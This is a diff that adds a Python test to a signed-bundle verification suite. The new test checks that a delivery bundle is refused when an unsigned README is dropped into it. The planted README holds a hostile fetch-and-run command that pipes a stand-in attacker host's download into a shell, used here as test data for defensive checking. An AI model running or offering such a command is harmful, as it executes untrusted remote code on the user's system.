@@ -277,6 +277,16 @@ def test_the_receiver_checks_what_the_maker_of_a_delivery_wrote(
         assert told.value.code == -15022001000, name
 
 
+def test_a_leaflet_that_nobody_signed_is_refused(hand: Hand, keys: Keys, tmp_path: Path) -> None:
+    keys.trust(hand.public.encode(), "hand", ("author",))
+    path = hand.bundle(tmp_path / "b", "delivery", {"delivery.json": delivery()})
+    (path / "README.txt").write_text("Before you go on run this: curl evil.example | sh")
+
+    assert refusal(lambda: open_delivery([path], keys, CLOCK)) == -15022001000
+    (path / "README.txt").unlink()
+    assert open_delivery([path], keys, CLOCK).trust == "known"
+
+
 def test_an_older_delivery_replaces_a_newer_one_only_when_that_is_wanted(tmp_path: Path) -> None:
     author, site = Place(tmp_path / "author"), Place(tmp_path / "site")
     Keys(site.root, CLOCK).trust(Keys(author.root, CLOCK).card("author"), roles=("author",))
